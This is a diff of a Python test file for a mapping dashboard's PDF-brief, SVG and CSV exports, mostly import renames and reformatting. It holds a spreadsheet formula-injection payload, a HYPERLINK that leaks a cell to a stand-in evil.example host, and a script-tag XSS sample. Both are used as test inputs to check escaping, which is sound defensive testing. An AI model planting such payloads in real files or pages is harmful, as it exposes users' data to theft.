@@ -13,15 +13,15 @@ import pypdf
 import pytest
 from shapely.geometry import Point, Polygon
 
-from dashboard.config import WGS84
-from dashboard.coverage.compare import FIGURE_KEYS, compare
-from dashboard.coverage.gaps import EXPORT_COLUMNS, analyse, export_frame
-from dashboard.coverage.report import brief_pdf, caveats, comparison_table, display_table, method_text
-from dashboard.coverage.zone import candidates_frame, registry_concessions
-from dashboard.exports.brief import build_brief_pdf
-from dashboard.exports.svg_map import SvgLayer, render_svg
-from dashboard.exports.tables import excel_safe_csv
-from dashboard.i18n import t
+from atlas.common.reports.brief import build_brief_pdf
+from atlas.common.reports.svg_map import SvgLayer, render_svg
+from atlas.common.reports.tables import excel_safe_csv
+from atlas.features.csr.analysis.compare import FIGURE_KEYS, compare
+from atlas.features.csr.analysis.gaps import EXPORT_COLUMNS, analyse, export_frame
+from atlas.features.csr.analysis.zone import candidates_frame, registry_concessions
+from atlas.features.csr.reports.report import brief_pdf, caveats, comparison_table, display_table, method_text
+from atlas.foundation.config import WGS84
+from atlas.foundation.i18n import t
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -48,7 +48,7 @@ def niamia():
 @pytest.fixture(scope="module")
 def hostile_result():
     """Real concession and context, but the gazetteer holds villages with hostile names."""
-    from layers.registry import load_frame
+    from atlas.layers.registry import load_frame
 
     places = load_frame("places").copy()
     sites = load_frame("mining_sites").copy()
@@ -98,10 +98,24 @@ def test_brief_contains_method_note_caveats_and_fits_one_page(niamia):
 
 
 def test_brief_prints_unicode_beyond_latin1():
-    svg = render_svg([SvgLayer(gpd.GeoDataFrame({"name": ["Témoto ≤ 5 km"]}, geometry=[Point(-12, 13)], crs=WGS84),
-                               label_column="name")], width=200)
-    data = build_brief_pdf("Fiche – essai", "fr", svg, [("Seuil ≤", "10 – 19")], None,
-                           "Méthode : « ≤ » et « – » s’impriment.", ["Données synthétiques"], ["Source é"])
+    svg = render_svg(
+        [
+            SvgLayer(
+                gpd.GeoDataFrame({"name": ["Témoto ≤ 5 km"]}, geometry=[Point(-12, 13)], crs=WGS84), label_column="name"
+            )
+        ],
+        width=200,
+    )
+    data = build_brief_pdf(
+        "Fiche – essai",
+        "fr",
+        svg,
+        [("Seuil ≤", "10 – 19")],
+        None,
+        "Méthode : « ≤ » et « – » s’impriment.",
+        ["Données synthétiques"],
+        ["Source é"],
+    )
     pages, text = _pdf_text(data)
     assert pages == 1
     for needle in ("Fiche – essai", "Seuil ≤", "10 – 19", "« ≤ » et « – » s’impriment", "Témoto ≤ 5 km"):
@@ -111,18 +125,19 @@ def test_brief_prints_unicode_beyond_latin1():
 def test_brief_with_a_long_table_still_fits_one_page():
     table = pd.DataFrame({"rank": range(1, 200), "name": [f"Village {i} with a rather long name" for i in range(199)]})
     method = "Long method note. " * 60
-    pages, text = _pdf_text(build_brief_pdf("Long", "en", None, [("a", "1")] * 10, table, method,
-                                            ["caveat"] * 8, ["source"] * 8))
+    pages, text = _pdf_text(
+        build_brief_pdf("Long", "en", None, [("a", "1")] * 10, table, method, ["caveat"] * 8, ["source"] * 8)
+    )
     assert pages == 1
     assert "Long method note." in text
 
 
 def test_svg_projection_and_escaping():
-    frame = gpd.GeoDataFrame({"name": ["<script>alert(1)</script>", "east"]},
-                             geometry=[Point(-12.0, 13.0), Point(-11.0, 13.0)], crs=WGS84)
+    frame = gpd.GeoDataFrame(
+        {"name": ["<script>alert(1)</script>", "east"]}, geometry=[Point(-12.0, 13.0), Point(-11.0, 13.0)], crs=WGS84
+    )
     square = gpd.GeoDataFrame(geometry=[Polygon([(-12, 12), (-11, 12), (-11, 13), (-12, 13)])], crs=WGS84)
-    svg = render_svg([SvgLayer(square), SvgLayer(frame, label_column="name")], width=500, padding=0,
-                     scale_bar=False)
+    svg = render_svg([SvgLayer(square), SvgLayer(frame, label_column="name")], width=500, padding=0, scale_bar=False)
     root = ET.fromstring(svg)
     assert "<script>" not in svg and "&lt;script&gt;" in svg
     assert "href" not in svg and "http://" not in svg.replace('xmlns="http://www.w3.org/2000/svg"', "")
